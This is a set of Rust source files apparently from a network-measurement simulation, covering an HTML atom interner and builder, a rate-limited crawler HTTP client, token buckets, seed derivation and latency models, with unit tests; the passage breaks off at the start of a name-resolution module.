        if raw.bytes().any(|b| b.is_ascii_uppercase()) {
            Atom::from_lowercase(&raw.to_ascii_lowercase())
        } else {
            Atom::from_lowercase(raw)
        }
    }

    /// The empty atom (used as the parser's stack sentinel).
    pub fn empty() -> Atom {
        Atom(Repr::Static(""))
    }

    fn from_lowercase(name: &str) -> Atom {
        match WELL_KNOWN.binary_search(&name) {
            Ok(idx) => Atom(Repr::Static(WELL_KNOWN[idx])),
            Err(_) => Atom(Repr::Owned(Arc::from(name))),
        }
    }

    /// The name as a string slice.
    pub fn as_str(&self) -> &str {
        match &self.0 {
            Repr::Static(s) => s,
            Repr::Owned(s) => s,
        }
    }
}

impl fmt::Debug for Atom {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        fmt::Debug::fmt(self.as_str(), f)
    }
}

impl fmt::Display for Atom {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

impl PartialEq for Atom {
    fn eq(&self, other: &Atom) -> bool {
        self.as_str() == other.as_str()
    }
}
impl Eq for Atom {}

impl PartialOrd for Atom {
    fn partial_cmp(&self, other: &Atom) -> Option<std::cmp::Ordering> {
        Some(self.cmp(other))
    }
}
impl Ord for Atom {
    fn cmp(&self, other: &Atom) -> std::cmp::Ordering {
        self.as_str().cmp(other.as_str())
    }
}

impl Hash for Atom {
    fn hash<H: Hasher>(&self, state: &mut H) {
        self.as_str().hash(state);
    }
}

impl Borrow<str> for Atom {
    fn borrow(&self) -> &str {
        self.as_str()
    }
}

impl std::ops::Deref for Atom {
    type Target = str;
    fn deref(&self) -> &str {
        self.as_str()
    }
}

impl From<&str> for Atom {
    fn from(raw: &str) -> Atom {
        Atom::new(raw)
    }
}

impl From<&String> for Atom {
    fn from(raw: &String) -> Atom {
        Atom::new(raw)
    }
}

/// Per-document name interner used by the parser: on top of the static
/// table, each distinct non-well-known name is allocated once per document
/// and shared (`Arc` clone) across every node that repeats it. A reusable
/// scratch buffer makes case folding allocation-free too.
#[derive(Debug, Default)]
pub struct AtomInterner {
    interner: matchkit::Interner,
    atoms: Vec<Atom>,
    scratch: String,
}

impl AtomInterner {
    /// A fresh interner (one per parse).
    pub fn new() -> AtomInterner {
        AtomInterner::default()
    }

    /// Intern `raw` as a lowercase atom.
    pub fn atom(&mut self, raw: &str) -> Atom {
        let name: &str = if raw.bytes().any(|b| b.is_ascii_uppercase()) {
            self.scratch.clear();
            self.scratch
                .extend(raw.chars().map(|c| c.to_ascii_lowercase()));
            &self.scratch
        } else {
            raw
        };
        if let Ok(idx) = WELL_KNOWN.binary_search(&name) {
            return Atom(Repr::Static(WELL_KNOWN[idx]));
        }
        let sym = self.interner.intern(name);
        if sym.index() == self.atoms.len() {
            self.atoms.push(Atom(Repr::Owned(Arc::from(name))));
        }
        self.atoms[sym.index()].clone()
    }

    /// Distinct non-well-known names seen so far.
    pub fn unknown_names(&self) -> usize {
        self.atoms.len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn well_known_table_is_sorted_and_deduped() {
        for pair in WELL_KNOWN.windows(2) {
            assert!(pair[0] < pair[1], "{:?} out of order", pair);
        }
    }

    #[test]
    fn new_lowercases_and_resolves_statics() {
        assert_eq!(Atom::new("DIV").as_str(), "div");
        assert!(matches!(Atom::new("DIV").0, Repr::Static(_)));
        assert!(matches!(Atom::new("widget").0, Repr::Owned(_)));
        assert_eq!(Atom::new("Widget").as_str(), "widget");
    }

    #[test]
    fn content_equality_across_reprs() {
        let a = Atom::new("customtag");
        let b = Atom(Repr::Owned(Arc::from("customtag")));
        assert_eq!(a, b);
        let mut sorted = [Atom::new("div"), Atom::new("a"), Atom::new("zeta")];
        sorted.sort();
        assert_eq!(
            sorted.iter().map(Atom::as_str).collect::<Vec<_>>(),
            vec!["a", "div", "zeta"]
        );
    }

    #[test]
    fn btreemap_lookup_by_str() {
        let mut map = std::collections::BTreeMap::new();
        map.insert(Atom::new("href"), "/x".to_string());
        map.insert(Atom::new("data-custom"), "1".to_string());
        assert_eq!(map.get("href").map(String::as_str), Some("/x"));
        assert_eq!(map.get("data-custom").map(String::as_str), Some("1"));
        assert_eq!(map.get("missing"), None);
    }

    #[test]
    fn interner_dedupes_unknown_names() {
        let mut interner = AtomInterner::new();
        let a = interner.atom("x-custom");
        let b = interner.atom("X-CUSTOM");
        assert_eq!(a, b);
        assert_eq!(interner.unknown_names(), 1);
        interner.atom("div");
        assert_eq!(
            interner.unknown_names(),
            1,
            "well-known names never hit the interner"
        );
    }
}
