//! Builder API the simulated sites use to emit pages.
//!
//! ```
//! use htmlsim::build::el;
//!
//! let card = el("div")
//!     .class("bot-card")
//!     .attr("data-bot-id", "1234")
//!     .child(el("a").attr("href", "/bot/1234").text("FunBot"))
//!     .build();
//! assert!(card.has_class("bot-card"));
//! ```

use crate::atom::Atom;
use crate::node::Node;
use std::collections::BTreeMap;

/// Fluent element builder; see [`el`].
#[derive(Debug, Clone)]
pub struct ElementBuilder {
    tag: Atom,
    attrs: BTreeMap<Atom, String>,
    children: Vec<Node>,
}

/// Start building an element with the given tag.
pub fn el(tag: &str) -> ElementBuilder {
    ElementBuilder {
        tag: Atom::new(tag),
        attrs: BTreeMap::new(),
        children: Vec::new(),
    }
}

impl ElementBuilder {
    /// Set an attribute (last write wins).
    pub fn attr(mut self, key: &str, value: &str) -> Self {
        self.attrs.insert(Atom::new(key), value.to_string());
        self
    }

    /// Set the `id` attribute.
    pub fn id(self, id: &str) -> Self {
        self.attr("id", id)
    }

    /// Append a class to the `class` attribute.
    pub fn class(mut self, name: &str) -> Self {
        let entry = self.attrs.entry(Atom::new("class")).or_default();
        if entry.is_empty() {
            *entry = name.to_string();
        } else {
            entry.push(' ');
            entry.push_str(name);
        }
        self
    }

    /// Append an element child.
    pub fn child(mut self, child: ElementBuilder) -> Self {
        self.children.push(child.build());
        self
    }

    /// Append an already-built node.
    pub fn node(mut self, node: Node) -> Self {
        self.children.push(node);
        self
    }

    /// Append a text child.
    pub fn text(mut self, t: impl Into<String>) -> Self {
        self.children.push(Node::text(t));
        self
    }

    /// Append children from an iterator of builders.
    pub fn children(mut self, iter: impl IntoIterator<Item = ElementBuilder>) -> Self {
        self.children
            .extend(iter.into_iter().map(ElementBuilder::build));
        self
    }

    /// Finish building.
    pub fn build(self) -> Node {
        Node::Element {
            tag: self.tag,
            attrs: self.attrs,
            children: self.children,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn builds_nested_structure() {
        let n = el("ul")
            .id("list")
            .children((0..3).map(|i| el("li").text(format!("item {i}"))))
            .build();
        assert_eq!(n.id(), Some("list"));
        assert_eq!(n.children().len(), 3);
        assert_eq!(n.children()[2].text_content(), "item 2");
    }

    #[test]
    fn class_accumulates() {
        let n = el("div").class("a").class("b").build();
        assert_eq!(n.classes(), vec!["a", "b"]);
    }

    #[test]
    fn attr_last_write_wins() {
        let n = el("a").attr("href", "/x").attr("HREF", "/y").build();
        assert_eq!(n.attr("href"), Some("/y"));
    }

    #[test]
    fn node_appends_prebuilt() {
        let n = el("div").node(Node::text("raw")).build();
        assert_eq!(n.text_content(), "raw");
    }
}
