//! Property tests for the HTML parser and locators.

use htmlsim::{parse_document, Locator};
use proptest::prelude::*;

proptest! {
    /// The tolerant parser must accept anything without panicking, and any
    /// successfully parsed document must re-parse to the same tree after
    /// rendering (idempotent normalization).
    #[test]
    fn parse_render_parse_is_stable(input in "\\PC{0,300}") {
        if let Ok(doc) = parse_document(&input) {
            let rendered = htmlsim::render::render_document(&doc);
            let reparsed = parse_document(&rendered).expect("rendered html parses");
            prop_assert_eq!(doc, reparsed);
        }
    }

    /// Locators never panic, whatever the selector garbage.
    #[test]
    fn locators_never_panic(selector in "\\PC{0,40}", html in "<div id=\"x\" class=\"a b\"><p>t</p></div>") {
        let doc = parse_document(&html).expect("fixture parses");
        let _ = Locator::css(&selector).find_all(&doc);
        let _ = Locator::id(&selector).find(&doc);
        let _ = Locator::class(&selector).find_all(&doc);
        let _ = Locator::tag(&selector).find_all(&doc);
    }

    /// find() returns exactly the first element of find_all().
    #[test]
    fn find_is_first_of_find_all(n in 1usize..6) {
        use htmlsim::build::el;
        use htmlsim::Document;
        let doc = Document::new(
            el("div")
                .children((0..n).map(|i| el("span").class("hit").attr("data-i", &i.to_string())))
                .build(),
        );
        let all = Locator::class("hit").find_all(&doc).expect("ok");
        let first = Locator::class("hit").find(&doc).expect("nonempty");
        prop_assert_eq!(all.len(), n);
        prop_assert!(std::ptr::eq(all[0], first));
        prop_assert_eq!(first.attr("data-i"), Some("0"));
    }
}
