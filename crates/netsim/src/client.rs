//! A well-behaved HTTP client over the fabric.
//!
//! Implements the client-side etiquette the paper's scraper needed (§3):
//! per-host politeness rate limiting, bounded redirect following, retry with
//! exponential backoff on transient errors, and honouring server
//! `retry-after` pushback.

use crate::clock::{SimDuration, SimInstant};
use crate::error::NetError;
use crate::fabric::Network;
use crate::http::{Request, Response, Status, Url};
use crate::ratelimit::TokenBucket;
use std::collections::BTreeMap;

/// Client policy knobs.
#[derive(Debug, Clone)]
pub struct ClientConfig {
    /// Identity recorded in the fabric trace (and sent as `user-agent`).
    pub user_agent: String,
    /// Per-request wait budget.
    pub timeout: SimDuration,
    /// Maximum redirect hops per logical fetch.
    pub max_redirects: usize,
    /// Maximum attempts per hop (1 = no retries).
    pub max_attempts: u32,
    /// Base backoff; doubled per retry.
    pub backoff: SimDuration,
    /// Politeness limit per host: (burst, sustained requests/sec). `None`
    /// disables client-side limiting (used by the ablation bench).
    pub politeness: Option<(u32, f64)>,
}

impl Default for ClientConfig {
    fn default() -> Self {
        ClientConfig {
            user_agent: "netsim-client/0.1".into(),
            timeout: SimDuration::from_secs(10),
            max_redirects: 5,
            max_attempts: 3,
            backoff: SimDuration::from_millis(500),
            politeness: Some((2, 1.0)),
        }
    }
}

impl ClientConfig {
    /// The configuration used by the measurement crawler: patient timeout,
    /// gentle rate, a few retries.
    pub fn crawler(user_agent: &str) -> ClientConfig {
        ClientConfig {
            user_agent: user_agent.to_string(),
            timeout: SimDuration::from_secs(15),
            max_redirects: 5,
            max_attempts: 3,
            backoff: SimDuration::from_secs(1),
            politeness: Some((3, 0.5)),
        }
    }

    /// An impolite configuration (no rate limiting, no retries) — the
    /// baseline for the crawler-politeness ablation.
    pub fn impolite(user_agent: &str) -> ClientConfig {
        ClientConfig {
            user_agent: user_agent.to_string(),
            timeout: SimDuration::from_secs(15),
            max_redirects: 5,
            max_attempts: 1,
            backoff: SimDuration::ZERO,
            politeness: None,
        }
    }
}

/// Statistics a client keeps about its own behaviour.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct ClientStats {
    /// Logical fetches requested by the caller.
    pub fetches: u64,
    /// Individual dispatches (includes redirects and retries).
    pub dispatches: u64,
    /// Retries performed.
    pub retries: u64,
    /// Redirect hops followed.
    pub redirects_followed: u64,
    /// 429 responses received.
    pub rate_limited: u64,
    /// Virtual time spent sleeping for politeness/backoff.
    pub time_waiting: SimDuration,
}

/// An HTTP client bound to one [`Network`].
pub struct HttpClient {
    net: Network,
    config: ClientConfig,
    buckets: BTreeMap<String, TokenBucket>,
    stats: ClientStats,
}

impl HttpClient {
    /// Create a client on `net` with the given policy.
    pub fn new(net: Network, config: ClientConfig) -> HttpClient {
        HttpClient {
            net,
            config,
            buckets: BTreeMap::new(),
            stats: ClientStats::default(),
        }
    }

    /// The client's accumulated behaviour statistics.
    pub fn stats(&self) -> &ClientStats {
        &self.stats
    }

    /// The policy this client runs under.
    pub fn config(&self) -> &ClientConfig {
        &self.config
    }

    /// Convenience: GET a URL, following redirects and retrying per policy.
    pub fn get(&mut self, url: Url) -> Result<Response, NetError> {
        self.fetch(Request::get(url))
    }

    /// Convenience: POST a body.
    pub fn post(&mut self, url: Url, body: impl Into<Vec<u8>>) -> Result<Response, NetError> {
        self.fetch(Request::post(url, body))
    }

    fn politeness_wait(&mut self, host: &str, now: SimInstant) -> SimDuration {
        let Some((burst, rate)) = self.config.politeness else {
            return SimDuration::ZERO;
        };
        let bucket = self
            .buckets
            .entry(host.to_string())
            .or_insert_with(|| TokenBucket::new(burst, rate, now));
        let mut waited = SimDuration::ZERO;
        let mut at = now;
        // Loop because in pathological configs one refill may not be enough.
        for _ in 0..16 {
            match bucket.try_acquire(at) {
                Ok(()) => return waited,
                Err(wait) => {
                    waited += wait;
                    at = at.checked_add(wait);
                }
            }
        }
        waited
    }

    /// Perform a logical fetch: politeness wait → dispatch → follow
    /// redirects → retry transient failures with exponential backoff.
    pub fn fetch(&mut self, req: Request) -> Result<Response, NetError> {
        self.stats.fetches += 1;
        let clock = self.net.clock();
        let mut current = req.with_header("user-agent", &self.config.user_agent.clone());
        let mut hops = 0usize;

        loop {
            let mut attempt = 0u32;
            let response = loop {
                attempt += 1;

                let wait = self.politeness_wait(&current.url.host.clone(), clock.now());
                if wait > SimDuration::ZERO {
                    clock.sleep(wait);
                    self.stats.time_waiting += wait;
                }

                self.stats.dispatches += 1;
                let result =
                    self.net
                        .dispatch(&self.config.user_agent, &current, self.config.timeout);

                match result {
                    Ok(resp) if resp.status == Status::TooManyRequests => {
                        self.stats.rate_limited += 1;
                        let retry_after = resp
                            .header("retry-after-ms")
                            .and_then(|v| v.parse::<u64>().ok())
                            .map(SimDuration::from_millis)
                            .unwrap_or(self.config.backoff);
                        if attempt >= self.config.max_attempts {
                            return Err(NetError::RateLimited { retry_after });
                        }
                        self.stats.retries += 1;
                        clock.sleep(retry_after);
                        self.stats.time_waiting += retry_after;
                    }
                    Ok(resp) => break resp,
                    Err(err) if err.is_transient() && attempt < self.config.max_attempts => {
                        self.stats.retries += 1;
                        let backoff = self
                            .config
                            .backoff
                            .saturating_mul(1 << (attempt - 1).min(8));
                        clock.sleep(backoff);
                        self.stats.time_waiting += backoff;
                    }
                    Err(err)
                        if attempt >= self.config.max_attempts && self.config.max_attempts > 1 =>
                    {
                        return Err(NetError::RetriesExhausted {
                            attempts: attempt,
                            last: err.to_string(),
                        });
                    }
                    Err(err) => return Err(err),
                }
            };

            if response.status.is_redirect() {
                hops += 1;
                if hops > self.config.max_redirects {
                    return Err(NetError::TooManyRedirects { hops });
                }
                let location = response
                    .header("location")
                    .ok_or_else(|| NetError::Malformed {
                        reason: "redirect without location".into(),
                    })?;
                let next = current.url.join(location)?;
                self.stats.redirects_followed += 1;
                current =
                    Request::get(next).with_header("user-agent", &self.config.user_agent.clone());
                continue;
            }

            return Ok(response);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fabric::ServiceCtx;
    use crate::fault::FaultPlan;
    use crate::latency::LatencyModel;

    fn ok_service() -> impl crate::fabric::Service {
        |_req: &Request, _ctx: &mut ServiceCtx<'_>| Response::ok("hello")
    }

    #[test]
    fn simple_get() {
        let net = Network::new(7);
        net.mount("site.example", ok_service());
        let mut client = HttpClient::new(net, ClientConfig::default());
        let resp = client.get(Url::https("site.example", "/")).unwrap();
        assert_eq!(resp.text(), "hello");
        assert_eq!(client.stats().fetches, 1);
        assert_eq!(client.stats().dispatches, 1);
    }

    #[test]
    fn follows_redirect_chain() {
        let net = Network::new(7);
        net.mount(
            "site.example",
            |req: &Request, _ctx: &mut ServiceCtx<'_>| match req.url.path.as_str() {
                "/a" => Response::redirect("/b"),
                "/b" => Response::redirect("https://other.example/c"),
                _ => Response::status(Status::NotFound),
            },
        );
        net.mount(
            "other.example",
            |req: &Request, _ctx: &mut ServiceCtx<'_>| {
                if req.url.path == "/c" {
                    Response::ok("end")
                } else {
                    Response::status(Status::NotFound)
                }
            },
        );
        let mut client = HttpClient::new(net, ClientConfig::default());
        let resp = client.get(Url::https("site.example", "/a")).unwrap();
        assert_eq!(resp.text(), "end");
        assert_eq!(client.stats().redirects_followed, 2);
    }

    #[test]
    fn redirect_loop_is_bounded() {
        let net = Network::new(7);
        net.mount(
            "loop.example",
            |_req: &Request, _ctx: &mut ServiceCtx<'_>| Response::redirect("/again"),
        );
        let mut client = HttpClient::new(
            net,
            ClientConfig {
                max_redirects: 3,
                ..ClientConfig::default()
            },
        );
        let err = client
            .get(Url::https("loop.example", "/start"))
            .unwrap_err();
        assert_eq!(err, NetError::TooManyRedirects { hops: 4 });
    }

    #[test]
    fn retries_transient_then_succeeds() {
        let net = Network::new(7);
        let mut failures_left = 2;
        net.mount(
            "flaky.example",
            move |_req: &Request, _ctx: &mut ServiceCtx<'_>| {
                if failures_left > 0 {
                    failures_left -= 1;
                    Response::rate_limited(100)
                } else {
                    Response::ok("finally")
                }
            },
        );
        let mut client = HttpClient::new(net, ClientConfig::default());
        let resp = client.get(Url::https("flaky.example", "/")).unwrap();
        assert_eq!(resp.text(), "finally");
        assert_eq!(client.stats().retries, 2);
        assert_eq!(client.stats().rate_limited, 2);
        assert!(client.stats().time_waiting >= SimDuration::from_millis(200));
    }

    #[test]
    fn rate_limit_exhaustion_errors() {
        let net = Network::new(7);
        net.mount(
            "wall.example",
            |_req: &Request, _ctx: &mut ServiceCtx<'_>| Response::rate_limited(50),
        );
        let mut client = HttpClient::new(
            net,
            ClientConfig {
                max_attempts: 2,
                ..ClientConfig::default()
            },
        );
        let err = client.get(Url::https("wall.example", "/")).unwrap_err();
        assert!(matches!(err, NetError::RateLimited { .. }));
    }

    #[test]
    fn hard_failures_do_not_retry() {
        let net = Network::new(7);
        let mut client = HttpClient::new(net, ClientConfig::default());
        let err = client.get(Url::https("missing.example", "/")).unwrap_err();
        assert!(matches!(err, NetError::DnsFailure { .. }));
        assert_eq!(client.stats().retries, 0);
        assert_eq!(client.stats().dispatches, 1);
    }

    #[test]
    fn black_hole_exhausts_retries() {
        let net = Network::new(7);
        net.mount_with(
            "hole.example",
            ok_service(),
            LatencyModel::Fixed { ms: 1 },
            FaultPlan {
                black_hole: 1.0,
                ..FaultPlan::default()
            },
        );
        let mut client = HttpClient::new(
            net,
            ClientConfig {
                max_attempts: 3,
                ..ClientConfig::default()
            },
        );
        let err = client.get(Url::https("hole.example", "/")).unwrap_err();
        assert!(matches!(
            err,
            NetError::RetriesExhausted { attempts: 3, .. }
        ));
        assert_eq!(client.stats().retries, 2);
    }

    #[test]
    fn politeness_spaces_out_requests() {
        let net = Network::new(7);
        net.mount_with(
            "site.example",
            ok_service(),
            LatencyModel::Fixed { ms: 0 },
            FaultPlan::none(),
        );
        let clock = net.clock();
        let mut client = HttpClient::new(
            net,
            ClientConfig {
                politeness: Some((1, 1.0)),
                ..ClientConfig::default()
            },
        );
        for _ in 0..4 {
            client.get(Url::https("site.example", "/")).unwrap();
        }
        // 1 token burst + 1/sec sustained → 4 requests take ≥ 3 virtual seconds.
        assert!(
            clock.now().as_millis() >= 3000,
            "politeness should have slept ~3s, clock at {}",
            clock.now()
        );
        assert!(client.stats().time_waiting >= SimDuration::from_secs(3));
    }

    #[test]
    fn impolite_client_does_not_wait() {
        let net = Network::new(7);
        net.mount_with(
            "site.example",
            ok_service(),
            LatencyModel::Fixed { ms: 0 },
            FaultPlan::none(),
        );
        let clock = net.clock();
        let mut client = HttpClient::new(net, ClientConfig::impolite("rude"));
        for _ in 0..10 {
            client.get(Url::https("site.example", "/")).unwrap();
        }
        assert_eq!(clock.now().as_millis(), 0);
        assert_eq!(client.stats().time_waiting, SimDuration::ZERO);
    }

    #[test]
    fn user_agent_header_is_attached() {
        let net = Network::new(7);
        net.mount("ua.example", |req: &Request, _ctx: &mut ServiceCtx<'_>| {
            Response::ok(req.header("user-agent").unwrap_or("none").to_string())
        });
        let mut client = HttpClient::new(net, ClientConfig::crawler("paper-crawler/1.0"));
        let resp = client.get(Url::https("ua.example", "/")).unwrap();
        assert_eq!(resp.text(), "paper-crawler/1.0");
    }
}
