//! Seed derivation for parallel workers.
//!
//! Sharded components (crawl workers, honeypot guild runners, per-request
//! service RNGs) each need their own deterministic RNG stream derived from
//! one configured seed. SplitMix64 is the standard finalizer for that: it
//! is a bijection on `u64` with full avalanche, so distinct stream ids map
//! to uncorrelated seeds and no two streams collide.

/// One SplitMix64 scramble step (a bijective finalizer on `u64`).
pub fn splitmix64(x: u64) -> u64 {
    let mut z = x.wrapping_add(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// Derive the seed for stream `stream` of a generator seeded with `seed`.
///
/// `splitmix(seed, 0)`, `splitmix(seed, 1)`, … are independent,
/// deterministic sub-seeds; worker `i` of a sharded stage seeds its private
/// RNG with `splitmix(config.seed, i)`.
pub fn splitmix(seed: u64, stream: u64) -> u64 {
    splitmix64(seed ^ splitmix64(stream))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn deterministic() {
        assert_eq!(splitmix(7, 3), splitmix(7, 3));
        assert_eq!(splitmix64(42), splitmix64(42));
    }

    #[test]
    fn streams_do_not_collide() {
        let mut seen = std::collections::BTreeSet::new();
        for seed in [0u64, 1, 7, 2022, u64::MAX] {
            for stream in 0..64u64 {
                assert!(
                    seen.insert(splitmix(seed, stream)),
                    "collision at {seed}/{stream}"
                );
            }
        }
    }

    #[test]
    fn zero_is_scrambled() {
        assert_ne!(splitmix(0, 0), 0);
        assert_ne!(splitmix(0, 0), splitmix(0, 1));
    }
}
