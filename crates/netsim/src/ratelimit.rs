//! Token-bucket rate limiting over virtual time.
//!
//! Used on both sides of the fence: servers (the botlist's anti-scraping
//! throttle answers 429 when a bucket empties) and clients (the crawler's
//! politeness limiter, §3: "We limit the rate at which we generate our
//! requests").

use crate::clock::{SimDuration, SimInstant};
use serde::{Deserialize, Serialize};

/// A classic token bucket, parameterized over virtual time.
///
/// The bucket holds up to `capacity` tokens and refills at `refill_per_sec`
/// tokens per virtual second. Each admitted request consumes one token.
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct TokenBucket {
    capacity: f64,
    refill_per_sec: f64,
    tokens: f64,
    last_refill: SimInstant,
}

impl TokenBucket {
    /// A bucket that starts full.
    ///
    /// `capacity` is the burst size; `refill_per_sec` the sustained rate.
    /// Both are clamped to be at least a small positive value so a
    /// misconfigured bucket degrades to "very strict" instead of dividing by
    /// zero.
    pub fn new(capacity: u32, refill_per_sec: f64, now: SimInstant) -> TokenBucket {
        let capacity = f64::from(capacity.max(1));
        TokenBucket {
            capacity,
            refill_per_sec: refill_per_sec.max(1e-6),
            tokens: capacity,
            last_refill: now,
        }
    }

    fn refill(&mut self, now: SimInstant) {
        let elapsed = now.duration_since(self.last_refill);
        if elapsed > SimDuration::ZERO {
            self.tokens = (self.tokens + elapsed.as_millis() as f64 / 1000.0 * self.refill_per_sec)
                .min(self.capacity);
            self.last_refill = now;
        }
    }

    /// Try to admit one request at virtual time `now`.
    ///
    /// Returns `Ok(())` when admitted, or `Err(wait)` with the duration until
    /// a token will be available.
    pub fn try_acquire(&mut self, now: SimInstant) -> Result<(), SimDuration> {
        self.refill(now);
        if self.tokens >= 1.0 {
            self.tokens -= 1.0;
            Ok(())
        } else {
            let deficit = 1.0 - self.tokens;
            let wait_ms = (deficit / self.refill_per_sec * 1000.0).ceil() as u64;
            Err(SimDuration::from_millis(wait_ms.max(1)))
        }
    }

    /// Tokens currently available (after refilling to `now`).
    pub fn available(&mut self, now: SimInstant) -> f64 {
        self.refill(now);
        self.tokens
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn at(ms: u64) -> SimInstant {
        SimInstant::from_millis(ms)
    }

    #[test]
    fn burst_up_to_capacity_then_throttle() {
        let mut b = TokenBucket::new(3, 1.0, at(0));
        assert!(b.try_acquire(at(0)).is_ok());
        assert!(b.try_acquire(at(0)).is_ok());
        assert!(b.try_acquire(at(0)).is_ok());
        let wait = b.try_acquire(at(0)).unwrap_err();
        assert_eq!(wait.as_millis(), 1000);
    }

    #[test]
    fn refills_over_time() {
        let mut b = TokenBucket::new(1, 2.0, at(0));
        assert!(b.try_acquire(at(0)).is_ok());
        assert!(b.try_acquire(at(0)).is_err());
        // 2 tokens/sec → a token arrives after 500ms
        assert!(b.try_acquire(at(500)).is_ok());
    }

    #[test]
    fn refill_caps_at_capacity() {
        let mut b = TokenBucket::new(2, 100.0, at(0));
        // long idle period must not bank more than `capacity` tokens
        assert!((b.available(at(60_000)) - 2.0).abs() < 1e-9);
    }

    #[test]
    fn suggested_wait_is_honoured() {
        let mut b = TokenBucket::new(1, 0.5, at(0));
        assert!(b.try_acquire(at(0)).is_ok());
        let wait = b.try_acquire(at(0)).unwrap_err();
        assert_eq!(wait.as_millis(), 2000);
        // acquiring exactly at the suggested time succeeds
        assert!(b.try_acquire(at(wait.as_millis())).is_ok());
    }

    #[test]
    fn zero_rate_is_clamped_not_divided() {
        let mut b = TokenBucket::new(1, 0.0, at(0));
        assert!(b.try_acquire(at(0)).is_ok());
        // wait is finite (huge, but finite)
        let wait = b.try_acquire(at(0)).unwrap_err();
        assert!(wait.as_millis() > 0);
    }
}
