//! Latency models for the fabric.
//!
//! Each simulated host is assigned a [`LatencyModel`]; the fabric samples a
//! round-trip time per request and advances the virtual clock by it. The
//! heavy-tail model is what produces the "timed out due to slow redirect
//! links" population the paper reports for 26% of invite links.

use crate::clock::SimDuration;
use rand::Rng;
use serde::{Deserialize, Serialize};

/// How long a host takes to answer.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub enum LatencyModel {
    /// Always exactly this long.
    Fixed {
        /// Constant round-trip time in ms.
        ms: u64,
    },
    /// Uniformly distributed in `[lo_ms, hi_ms]`.
    Uniform {
        /// Lower bound (ms).
        lo_ms: u64,
        /// Upper bound (ms), inclusive.
        hi_ms: u64,
    },
    /// Mostly `base_ms` with jitter, but a `tail_prob` chance of a response
    /// `tail_factor`× slower — the classic long-tail web server.
    HeavyTail {
        /// Typical response time (ms).
        base_ms: u64,
        /// Probability in `[0,1]` of hitting the slow tail.
        tail_prob: f64,
        /// Multiplier applied on tail hits.
        tail_factor: u64,
    },
}

impl LatencyModel {
    /// A sensible default for a healthy site: 40–120 ms.
    pub fn healthy() -> LatencyModel {
        LatencyModel::Uniform {
            lo_ms: 40,
            hi_ms: 120,
        }
    }

    /// A slow, flaky host: 300 ms base with a 15% chance of 20× tail —
    /// guaranteed to trip a multi-second client timeout occasionally.
    pub fn flaky() -> LatencyModel {
        LatencyModel::HeavyTail {
            base_ms: 300,
            tail_prob: 0.15,
            tail_factor: 20,
        }
    }

    /// Sample one round-trip time.
    pub fn sample<R: Rng + ?Sized>(&self, rng: &mut R) -> SimDuration {
        let ms = match *self {
            LatencyModel::Fixed { ms } => ms,
            LatencyModel::Uniform { lo_ms, hi_ms } => {
                if lo_ms >= hi_ms {
                    lo_ms
                } else {
                    rng.gen_range(lo_ms..=hi_ms)
                }
            }
            LatencyModel::HeavyTail {
                base_ms,
                tail_prob,
                tail_factor,
            } => {
                let jittered = base_ms + rng.gen_range(0..=base_ms / 4 + 1);
                if rng.gen_bool(tail_prob.clamp(0.0, 1.0)) {
                    jittered.saturating_mul(tail_factor.max(1))
                } else {
                    jittered
                }
            }
        };
        SimDuration::from_millis(ms)
    }

    /// The fastest response this model can produce — used by tests to bound
    /// expectations.
    pub fn min_ms(&self) -> u64 {
        match *self {
            LatencyModel::Fixed { ms } => ms,
            LatencyModel::Uniform { lo_ms, .. } => lo_ms,
            LatencyModel::HeavyTail { base_ms, .. } => base_ms,
        }
    }
}

impl Default for LatencyModel {
    fn default() -> Self {
        LatencyModel::healthy()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::rngs::StdRng;
    use rand::SeedableRng;

    #[test]
    fn fixed_is_fixed() {
        let mut rng = StdRng::seed_from_u64(1);
        let m = LatencyModel::Fixed { ms: 77 };
        for _ in 0..10 {
            assert_eq!(m.sample(&mut rng).as_millis(), 77);
        }
    }

    #[test]
    fn uniform_stays_in_bounds() {
        let mut rng = StdRng::seed_from_u64(2);
        let m = LatencyModel::Uniform {
            lo_ms: 10,
            hi_ms: 20,
        };
        for _ in 0..200 {
            let s = m.sample(&mut rng).as_millis();
            assert!((10..=20).contains(&s), "sample {s} out of bounds");
        }
    }

    #[test]
    fn uniform_degenerate_bounds() {
        let mut rng = StdRng::seed_from_u64(3);
        let m = LatencyModel::Uniform {
            lo_ms: 50,
            hi_ms: 50,
        };
        assert_eq!(m.sample(&mut rng).as_millis(), 50);
        // inverted bounds fall back to lo rather than panicking
        let m = LatencyModel::Uniform {
            lo_ms: 60,
            hi_ms: 10,
        };
        assert_eq!(m.sample(&mut rng).as_millis(), 60);
    }

    #[test]
    fn heavy_tail_produces_tail_events() {
        let mut rng = StdRng::seed_from_u64(4);
        let m = LatencyModel::HeavyTail {
            base_ms: 100,
            tail_prob: 0.5,
            tail_factor: 50,
        };
        let samples: Vec<u64> = (0..100).map(|_| m.sample(&mut rng).as_millis()).collect();
        let slow = samples.iter().filter(|&&s| s >= 100 * 50).count();
        let fast = samples.iter().filter(|&&s| s < 200).count();
        assert!(slow > 20, "expected tail hits, got {slow}");
        assert!(fast > 20, "expected fast responses, got {fast}");
    }

    #[test]
    fn sampling_is_deterministic_per_seed() {
        let m = LatencyModel::healthy();
        let a: Vec<u64> = {
            let mut rng = StdRng::seed_from_u64(9);
            (0..20).map(|_| m.sample(&mut rng).as_millis()).collect()
        };
        let b: Vec<u64> = {
            let mut rng = StdRng::seed_from_u64(9);
            (0..20).map(|_| m.sample(&mut rng).as_millis()).collect()
        };
        assert_eq!(a, b);
    }
}
