//! Name resolution for the fabric.
//!
//! Real measurement pipelines classify a large fraction of scraped links as
//! dead because the *name* no longer resolves. The fabric keeps an explicit
